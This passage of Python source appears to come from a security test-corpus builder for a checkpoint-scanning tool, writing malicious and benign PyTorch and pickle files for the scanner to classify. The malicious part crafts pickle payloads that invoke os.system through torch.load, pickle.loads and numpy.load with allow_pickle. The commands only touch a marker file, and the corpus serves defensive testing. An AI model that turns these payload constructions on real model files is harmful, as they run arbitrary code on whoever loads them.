                                   call(G("numpy", "zeros"), I(1)),
                                   SU(m("numpy_ndarray_tofile"))),
      "numpy.ndarray.tofile", "ndarray.tofile(numpy.zeros(1), marker)", proto=4)
    c("torch_save", call(G("torch", "save"), b"}", U(m("torch_save"))), "torch.save",
      "torch.save({}, marker)")

    def inner(n: str) -> bytes:
        return bare(b.os_system(n))
    c("torch_load_from_bytes", call(G("torch.storage", "_load_from_bytes"),
                                    BB(inner("torch_load_from_bytes"))),
      "torch.storage._load_from_bytes",
      "torch.storage._load_from_bytes(bytes) = torch.load(BytesIO, weights_only=False) of a "
      "bare payload pickle")
    c("torch_load_bytesio", call(G("torch", "load"),
                                 call(G("io", "BytesIO"), BB(inner("torch_load_bytesio"))),
                                 b"N", G("torch.serialization", "pickle")),
      "torch.load",
      "torch.load(io.BytesIO(payload), None, pickle): an explicit pickle_module turns "
      "weights_only off", ("torch.serialization.pickle",))
    c("pickle_loads_nested", call(G("pickle", "loads"), BB(inner("pickle_loads_nested"))),
      "pickle.loads", "pickle.loads(bytes of a payload pickle)")
    c("numpy_load_pickle", call(G("numpy", "load"),
                                call(G("io", "BytesIO"), BB(inner("numpy_load_pickle"))),
                                b"N", b"\x88"),
      "numpy.load", "numpy.load(io.BytesIO(payload), None, True): allow_pickle positional")

    for name, payload, off, also, note, proto in cls:
        add(name, f"{name}.pt", payload_zip(payload, proto=proto), offending=off, also=also,
            note=note, tags=("classic",))


# --------------------------------------------------------------------------------------------
# benign cases

def _benign(b: _Builder) -> None:
    import numpy as np
    import torch

    def tsave(name: str, obj: object, level: str, note: str, rel: str | None = None,
              requires: str | None = None, **kw) -> None:
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        b.add(name, rel or f"{name}.pt", buf.getvalue(), offending=None, malicious=False,
              level=level, note=note, requires=requires, tags=("benign",))

    def fixture(name: str, rel: str, src: str, level: str, note: str,
                requires: str | None = None) -> None:
        b.copy(name, rel, FIXTURES / src, offending=None, malicious=False, level=level,
               note=note, requires=requires, tags=("benign", "fixture"))

    torch.manual_seed(0)
    lin = torch.nn.Linear(4, 3)
    tsave("plain_state_dict", lin.state_dict(), "weights-only",
          "nn.Linear(4, 3).state_dict()")
    fixture("fixture_optim_sgd", "optim_sgd_momentum.pt", "optim_sgd_momentum.pt",
            "weights-only", "fixtures/optim_sgd_momentum.pt (SGD state_dict)")
    fixture("fixture_legacy_format", "imagenet_style_legacy.pth",
            "imagenet_style_legacy.pth", "weights-only",
            "fixtures/imagenet_style_legacy.pth: legacy (non-zip) torch.save checkpoint")
    tsave("torch_builtin_values",
          {"size": torch.Size([2, 3]), "dtype": torch.bfloat16, "device": torch.device("cpu"),
           "tags": {"a", "b"}, "pair": (1, 2.5), "complex": 1 + 2j, "blob": b"\x00\x01",
           "none": None, "t": torch.arange(3)},
          "weights-only", "torch.Size, dtype, device, set, tuple, complex, bytes, tensor")
    enc = torch.nn.TransformerEncoder(
        torch.nn.TransformerEncoderLayer(8, 2, 16, activation="gelu", batch_first=True), 1,
        enable_nested_tensor=False)
    tsave("transformer_encoder_module", enc, "needs-trust",
          "torch.save of a whole nn.TransformerEncoder (classes, torch._C._nn.gelu)")
    tsave("numpy_rngs", {"np_generator": np.random.default_rng(0),
                         "np_randomstate": np.random.RandomState(0),
                         "model": lin.state_dict()}, "needs-trust",
          "numpy Generator and RandomState in a checkpoint dict")
    tsave("numpy_values", {"arr": np.arange(4, dtype=np.float32), "scalar": np.float64(0.5),
                           "dtype": np.dtype("int64")}, "needs-trust",
          "numpy ndarray, float64 scalar and dtype")
    tsave("uuid_value", {"run_id": uuid.UUID(int=0x1234), "model": lin.state_dict()},
          "needs-trust", "uuid.UUID value")
    tsave("torch_generator", {"generator": torch.Generator().manual_seed(0)}, "needs-trust",
          "a torch.Generator object (torch._C.Generator with its state)")
    b.copy("fsdp2_dtensor", "fsdp2_dtensor.pt", DTENSOR_FILE, offending=None,
           malicious=False, level="needs-trust",
           note="FSDP2 (fully_shard) model + AdamW state_dict of DTensors (made by "
                "tests/security/make_dtensor.py on a 1-rank fake process group); "
                "weights_only=True refuses it unless torch.distributed.tensor was imported",
           tags=("benign",))
    tsave("argparse_namespace", {"args": argparse.Namespace(lr=0.1, arch="tiny"),
                                 "model": lin.state_dict()}, "needs-trust",
          "argparse.Namespace of training args")
    tsave("pathlib_posixpath", {"out_dir": pathlib.PosixPath("/tmp/run1"),
                                "model": lin.state_dict()}, "needs-trust",
          "pathlib.PosixPath value")
    # transformers' IntervalStrategy('steps') exactly as pickle writes an enum member
    enum_pkl = (b"\x80\x02}(" + U("eval_strategy")
                + call(G("transformers.trainer_utils", "IntervalStrategy"), U("steps"))
                + U("optimizer") + SGD_PKL[2:-1] + b"u.")
    b.add("hf_interval_strategy_enum", "hf_enum.pt", torch_zip(enum_pkl), offending=None,
          malicious=False, level="needs-trust",
          note="transformers.trainer_utils.IntervalStrategy('steps') (an enum) next to an "
               "SGD state_dict", requires="transformers", tags=("benign",))
    fixture("hf_training_args", "hf_trainer/training_args.bin",
            "hf_trainer/checkpoint-4/training_args.bin", "needs-trust",
            "transformers TrainingArguments (a dataclass) pickled by the Trainer; "
            "unpickling it imports transformers.training_args, which imports accelerate",
            requires="accelerate")
    fixture("hf_rng_state", "hf_trainer/rng_state.pth", "hf_trainer/checkpoint-4/rng_state.pth",
            "needs-trust", "transformers rng_state.pth (python/numpy/torch RNG states)")
    fixture("accelerate_random_states", "accelerate/random_states_0.pkl",
            "accelerate_state/random_states_0.pkl", "needs-trust",
            "accelerate save_state random_states_0.pkl")
    fixture("fixture_opaque", "opaque.pt", "opaque.pt", "needs-trust",
            "fixtures/opaque.pt: Namespace, PosixPath, numpy scalar next to SGD")
    fixture("mmengine_iter", "mmengine/iter_4.pth", "mmengine/iter_4.pth", "needs-trust",
            "mmengine Runner checkpoint (message_hub has getattr(HistoryBuffer, 'min'), a "
            "stored, never called, getattr)", requires="mmengine")
    fixture("lightning_ckpt_real", "lightning/epoch=0-step=3.ckpt",
            "lightning/epoch=0-step=3.ckpt", "weights-only",
            "real Lightning ModelCheckpoint file")
    # a bytes value holding a malicious pickle: never unpickled by torch.load
    inner = bare(b.os_system("nested_pickle_bytes"))
    tsave("nested_pickle_bytes", {"blob": inner, "model": lin.state_dict()}, "weights-only",
          "a bytes value that happens to hold a pickle calling os.system: loading never "
          "unpickles it")


def build(dest: Path, marker_dir: Path) -> list[Case]:
    """Write every case into ``dest`` (emptied first) and return them, malicious first."""
    dest = Path(dest)
    if dest.exists():
        shutil.rmtree(dest)
    dest.mkdir(parents=True)
    b = _Builder(dest, Path(marker_dir))
    _malicious(b)
    _benign(b)
    return b.cases


if __name__ == "__main__":
    # python tests/security/corpus.py [DEST] [--markdown]: build into DEST and list the cases
    import sys
    import time
    t0 = time.monotonic()
    argv = [a for a in sys.argv[1:] if a != "--markdown"]
    out = Path(argv[0] if argv else "/tmp/ckpttool-security-corpus")
    cases = build(out, out.parent / (out.name + "-markers"))
    if "--markdown" in sys.argv:
        print("| case | file | expect_level | offending | loader | note |")
        print("|---|---|---|---|---|---|")
    for cs in cases:
        rel = str(cs.path.relative_to(out))
        if "--markdown" in sys.argv:
            cells = [cs.name, f"`{rel}`", cs.expect_level,
                     f"`{cs.offending}`" if cs.offending else "-", cs.loader, cs.note]
            print("| " + " | ".join(x.replace("|", "\\|") for x in cells) + " |")
        else:
            print(f"{cs.name:34} {cs.expect_level:12} {cs.loader:6} {cs.offending or '-':45} "
                  f"{rel}")
    print(f"{sum(c.malicious for c in cases)} malicious, "
          f"{sum(not c.malicious for c in cases)} benign in {time.monotonic() - t0:.2f}s",
          file=sys.stderr)
